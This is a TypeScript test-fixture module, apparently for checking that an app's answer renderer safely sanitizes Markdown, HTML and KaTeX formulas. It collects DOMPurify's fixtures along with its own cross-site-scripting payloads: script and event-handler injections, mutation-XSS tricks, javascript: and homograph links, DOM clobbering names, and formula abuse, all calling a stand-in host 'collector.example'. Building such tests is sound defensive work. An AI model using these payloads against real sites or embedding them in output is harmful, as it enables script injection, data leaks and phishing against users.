/**
 * What an answer may hold that must do nothing: the fixtures of DOMPurify (those of the last version that was published with
 * them), and what is peculiar to Markdown, links, formulas and pages with ids. Each is put to the page as an answer's text.
 */
import { createRequire } from "node:module";

type Fixture = { title?: string; payload: string };

/** Where something would show that a payload ran: nothing else ever asks for this host. */
export const FOREIGN_HOST = "collector.example";

const fixtures: unknown = createRequire(import.meta.url)("dompurify-fixtures/test/fixtures/expect.js");

function isFixture(value: unknown): value is Fixture {
  return typeof value === "object" && value !== null && "payload" in value && typeof value.payload === "string";
}

/** DOMPurify's own. */
export const purifierPayloads: readonly string[] = (Array.isArray(fixtures) ? fixtures : [])
  .filter(isFixture)
  .map(({ payload }) => payload);

const X = `fetch("https://${FOREIGN_HOST}/x");window.ran=1`;
const Q = X.replaceAll('"', "&quot;");
const U = `https://${FOREIGN_HOST}/x`;

/** Ours, by class. */
export const ownPayloads: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${X}</script>`,
    `<script src="${U}"></script>`,
    `<svg><script>${X}</script></svg>`,
    `text <script>${X}</script> text`,
    `<scr<script>ipt>${X}</script>`,
    `<script type="module">import "${U}"</script>`,
  ],
  handlers: [
    `<img src=x onerror="${Q}">`,
    `<svg onload="${Q}">`,
    `<body onload="${Q}">`,
    `<details open ontoggle="${Q}">x</details>`,
    `<input autofocus onfocus="${Q}">`,
    `<video><source onerror="${Q}"></video>`,
    `<b onmouseover="${Q}">x</b>`,
    `<a href="https://a.example" onclick="${Q}">x</a>`,
  ],
  "requests of their own": [
    `<img src="${U}">`,
    `<img srcset="${U} 1x">`,
    `<iframe src="${U}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${Q}&lt;/script&gt;"></iframe>`,
    `<link rel="stylesheet" href="${U}">`,
    `<link rel="prefetch" href="${U}">`,
    `<object data="${U}"></object><embed src="${U}">`,
    `<base href="https://${FOREIGN_HOST}/">`,
    `<meta http-equiv="refresh" content="0;url=${U}">`,
    `<form action="${U}" method="post"><button autofocus>x</button></form>`,
    `<style>@import "${U}"; body { background: url(${U}) }</style>`,
    `<p style="background:url(${U})">x</p>`,
    `<table background="${U}"><tr><td>x</td></tr></table>`,
    `<video poster="${U}" src="${U}" autoplay></video>`,
    `<audio src="${U}" autoplay></audio>`,
    `![x](${U})`,
    `![x](${U} "y")`,
    `![x][i]\n\n[i]: ${U}`,
    `[![x](${U})](${U})`,
    `![x](//${FOREIGN_HOST}/x)`,
    `<picture><source srcset="${U}"><img alt="x"></picture>`,
    `<svg><image href="${U}" /><use href="${U}#a" /><feImage href="${U}" /></svg>`,
    `<math href="${U}"><mtext>x</mtext></math>`,
    `<a ping="${U}" href="https://a.example">x</a>`,
  ],
  mutations: [
    `<noscript><p title="</noscript><img src=x onerror=${Q}>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${Q}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${Q}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${Q}>`,
    `<template><script>${X}</script></template>`,
    `<select><option><style></option></select><img src=x onerror=${Q}></style>`,
    `<textarea></textarea><img src=x onerror=${Q}>`,
    `<title></title><img src=x onerror=${Q}>`,
    `<xmp><p title="</xmp><img src=x onerror=${Q}>">`,
    `<![CDATA[<img src=x onerror=${Q}>]]>`,
    `<!--><img src=x onerror=${Q}>-->`,
    `<?xml-stylesheet href="javascript:${Q}"?>`,
    `\`<img src=x onerror=${Q}>\``,
    `\`\`\`html\n<img src=x onerror=${Q}>\n<script>${X}</script>\n\`\`\``,
    `\`\`\`"><img src=x onerror=${Q}>\nx\n\`\`\``,
    `| <img src=x onerror=${Q}> |\n|---|\n| <script>${X}</script> |`,
    `# <img src=x onerror=${Q}>`,
    `[^x<img src=x onerror=${Q}>]`,
    `&lt;img src=x onerror=${Q}&gt;`,
    `\u003cimg src=x onerror=${Q}\u003e`,
  ],
  links: [
    `[x](javascript:${Q})`,
    `[x](JaVaScRiPt:${Q})`,
    `[x](java\tscript:${Q})`,
    `[x](&#106;avascript:${Q})`,
    `[x](javascript&colon;${Q})`,
    `[x](<java\u00adscript:${Q}>)`,
    `[x](\u0001javascript:${Q})`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[x](vbscript:msgbox(1))`,
    `[x](https://a.example "onclick=${Q}")`,
    `[x](https://a.example/"onclick=${Q})`,
    `<javascript:${X}>`,
    `[x]\n\n[x]: javascript:${Q}`,
    `[x](https://paypal.com@${FOREIGN_HOST}/)`,
    `[https://paypal.com](${U})`,
    `[x](blob:https://a.example/1)`,
    `[x](mailto:a@b.example?bcc=c@${FOREIGN_HOST})`,
    `[\u202emoc.lapyap](${U})`,
  ],
  "names of the page's own": [
    `<a id="root">x</a><img name="getElementById"><form id="location" name="cookie"></form>`,
    `<input name="attributes"><input name="parentNode"><form name="body"></form>`,
    `# root\n\n## constructor\n\n[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y`,
    `[__proto__] [constructor] [toString]\n\n[__proto__]: https://a.example`,
    `\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\``,
  ],
  formulas: [
    `$\\href{javascript:${X}}{x}$`,
    `$\\href{${U}}{x}$ and $\\url{${U}}$`,
    `$\\includegraphics[height=1em]{${U}}$`,
    `$\\htmlClass{message}{x} \\htmlId{root}{x} \\htmlStyle{background:url(${U})}{x} \\htmlData{a=b}{x}$`,
    `$\\text{<img src=x onerror=${Q}>}$`,
    `$<script>x_1</script>$`,
    `$$\n\\def\\a{xxxxxxxx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}\\c\\c\\c\n$$`,
    `$$\n\\newcommand{\\x}{\\x\\x}\\x\n$$`,
    `$\\rule{99999em}{99999em}$ and $\\kern99999em x$`,
    `$${"\\sqrt{".repeat(600)}x${"}".repeat(600)}$`,
    `$\\color{red;background:url(${U})}{x}$ and $\\fcolorbox{red}{blue}{x_1}$ and $\\colorbox{url(${U})}{x_1}$`,
    `$\\@ifnextchar\\unicode{x}\\char"41 x_1$`,
  ],
};

export const allPayloads: readonly string[] = [...purifierPayloads, ...Object.values(ownPayloads).flat()];
